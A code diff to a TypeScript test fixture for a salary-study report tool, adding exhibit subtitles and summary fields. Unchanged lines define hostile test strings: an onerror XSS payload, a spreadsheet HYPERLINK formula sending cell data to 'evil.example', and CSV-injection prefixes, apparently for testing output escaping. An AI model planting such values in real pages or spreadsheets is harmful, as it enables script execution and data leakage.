@@ -4,11 +4,16 @@
  */
 import type { Exhibit, StudyResult } from "../../src/exhibits/spec/types";
 
+/** The exhibits below before the registry adds their subtitle. */
+type Draft = Omit<Exhibit, "subtitle">;
+
+export const FIXTURE_SUBTITLE = "As of 2013-04-01 · Pay Plans: plans.csv · Roster: roster.csv";
+
 export const HOSTILE_TITLE = "<img src=x onerror=alert(1)>";
 export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 export const HOSTILE_TEXTS = [FORMULA_TITLE, "+SUM(1,2)", "-2+3", "@cmd", "\tTabbed", "\rReturn", HOSTILE_TITLE];
 
-const summaryExhibit: Exhibit = {
+const summaryExhibit: Draft = {
   id: "pay-plan-summary",
   number: "3-1",
   title: "Pay Plan Summary",
@@ -46,7 +51,7 @@ const summaryExhibit: Exhibit = {
   ],
 };
 
-const quartiles: Exhibit = {
+const quartiles: Draft = {
   id: "quartiles",
   number: "3-4",
   title: "Quartile Analysis",
@@ -85,7 +90,7 @@ const quartiles: Exhibit = {
   ],
 };
 
-const families: Exhibit = {
+const families: Draft = {
   id: "job-families",
   number: "3-5",
   title: "Job Families",
@@ -104,7 +109,7 @@ const families: Exhibit = {
   source: "Source: Roster.",
 };
 
-const tenure: Exhibit = {
+const tenure: Draft = {
   id: "tenure",
   number: "3-6",
   title: "Average Tenure",
@@ -122,7 +127,7 @@ const tenure: Exhibit = {
   source: "Source: Roster (hire dates).",
 };
 
-const audit: Exhibit = {
+const audit: Draft = {
   id: "schedule-audit",
   number: "3-7",
   title: "Schedule Audit",
@@ -137,7 +142,7 @@ const audit: Exhibit = {
   source: "Source: Pay Plans.",
 };
 
-const unmatched: Exhibit = {
+const unmatched: Draft = {
   id: "unmatched-employees",
   number: "3-8",
   title: "Unmatched Employees",
@@ -159,15 +164,21 @@ export function studyFixture(): StudyResult {
   return structuredClone({
     asOf: "2013-04-01",
     sources: { plans: "plans.csv", roster: "roster.csv" },
-    exhibits: [summaryExhibit, quartiles, families, tenure, audit, unmatched],
+    exhibits: [summaryExhibit, quartiles, families, tenure, audit, unmatched].map((draft) => ({
+      ...draft,
+      subtitle: FIXTURE_SUBTITLE,
+    })),
     summary: {
       plans: 2,
       grades: 3,
       rosterRows: 42,
       employees: 35,
       unmatched: 7,
+      separated: 0,
       auditErrors: 0,
       auditWarnings: 0,
+      notes: [],
+      columns: { plans: { Plan: "Plan", Grade: "Grade" }, roster: { "Employee ID": "Employee ID", Salary: "Salary" } },
     },
   } satisfies StudyResult);
 }
